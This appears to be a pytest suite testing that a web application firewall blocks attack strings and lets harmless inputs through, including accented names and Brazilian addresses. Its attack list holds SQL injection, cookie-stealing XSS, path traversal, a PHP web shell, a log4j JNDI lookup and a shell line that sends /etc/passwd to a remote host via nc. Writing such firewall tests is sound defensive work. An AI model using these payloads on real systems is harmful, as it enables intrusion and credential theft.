"""What the firewall blocks and what it lets through, asked through the edge."""

import json
from urllib.parse import quote

import pytest

JSON = {"Content-Type": "application/json"}

ATTACKS = {
    "sql injection": "1' OR '1'='1' UNION SELECT password FROM accounts--",
    "sql sleep": "1; SELECT pg_sleep(10)--",
    "script": "<script>alert(document.cookie)</script>",
    "event handler": "<img src=x onerror=alert(1)>",
    "traversal": "../../../../etc/passwd",
    "shell": "; cat /etc/passwd | nc 203.0.113.9 4444",
    "log4j": "${jndi:ldap://203.0.113.9/a}",
    "php": "<?php system($_GET['c']); ?>",
}

HARMLESS = [
    {"email": "sinead@example.com", "password": "correct horse battery staple", "name": "Sinéad O'Brien"},
    {"email": "a@example.com", "password": "' OR 1=1 --", "name": "Maria"},
    {"email": "a@example.com", "password": "<script>alert(1)</script>; DROP TABLE x;--", "name": "Maria"},
    {"email": "a@example.com", "password": "$(cat /etc/passwd) | ../../..", "name": "Maria"},
    {"email": "joao.d-avila+news@empresa.com.br", "password": "x", "name": "João D'Ávila de Sá e Silva Jr."},
    {"name": "Nuñez & Filhos Ltda.", "phone": "+55 (11) 91234-5678", "cpf": "529.982.247-25"},
    {
        "address": {
            "street": "Rua D'Oeste, 1º andar - lote 3",
            "number": "12-A",
            "complement": "apto. 4 (fundos); bloco B",
            "district": "Santa Bárbara d'Oeste",
            "city": "São José do Rio Preto",
            "state": "SP",
            "postal_code": "15010-100",
            "country": "BR",
        }
    },
    {
        "address": {
            "street": "Travessa da União, s/n",
            "complement": "casa 2 & 3, select and order from the gate",
        }
    },
    {"birth_date": "1990-02-28", "name": "Null Order"},
    {"name": "Zoë — “Aspas” e… reticências"},
    {"refresh_token": "v1.dGhpcyBpcyBub3QgYSB0b2tlbg--_x.Zm9v"},
]


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_attack_in_a_body_is_blocked(ask, text):
    answer = ask("POST", "/api/v1/auth/signup", JSON, body=json.dumps({"name": text}).encode())
    problem = answer.json()
    assert (answer.status, answer.headers["Content-Type"]) == (403, "application/problem+json")
    assert problem["status"] == 403
    assert problem["request_id"] == answer.headers["X-Request-ID"]
    assert problem["instance"] == "/api/v1/auth/signup"


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_attack_in_a_query_is_blocked(ask, text):
    assert ask("GET", f"/search?q={quote(text)}").status == 403


@pytest.mark.parametrize("body", HARMLESS, ids=lambda body: json.dumps(body, ensure_ascii=False)[:60])
@pytest.mark.parametrize("method", ["POST", "PATCH"])
def test_harmless_body_passes(ask, method, body):
    sent = json.dumps(body, ensure_ascii=False).encode()
    answer = ask(method, "/api/v1/auth/echo", JSON, body=sent)
    assert answer.status == 200
    assert answer.json()["body"].encode() == sent


def test_password_is_free_but_its_neighbours_are_not(ask):
    body = {"password": ATTACKS["sql injection"], "name": ATTACKS["sql injection"]}
    assert ask("POST", "/api/v1/auth/signup", JSON, body=json.dumps(body).encode()).status == 403


@pytest.mark.parametrize("body", [b'{"broken"', b"{'a': 1}", b"\xff\xfe", b'{"a": "' + b"\\u0000" + b'"'])
def test_broken_json_is_400(ask, body):
    answer = ask("POST", "/api/v1/auth/login", JSON, body=body)
    assert answer.status == 400
    assert answer.json()["request_id"] == answer.headers["X-Request-ID"]


def test_type_in_disguise_is_not_let_through(ask):
    """A body that the engine would not read as JSON must not reach a service that might."""
    for kind in ("text/plain", "application/x-yaml"):
        answer = ask("POST", "/api/v1/auth/login", {"Content-Type": kind}, body=b'{"name": "<script>"}')
        assert answer.status == 415


def test_empty_body_passes(ask):
    assert ask("DELETE", "/api/v1/auth/echo").status == 200
    assert ask("POST", "/api/v1/auth/logout", body=b"").status == 200


def test_client_cannot_pretend_to_be_the_probe(ask):
    assert ask("GET", "/", {"X-WAF-Probe": "block"}).status == 200


def test_addressed_by_number(ask, edge):
    assert ask("GET", "/", {"Host": edge.host}).status == 200
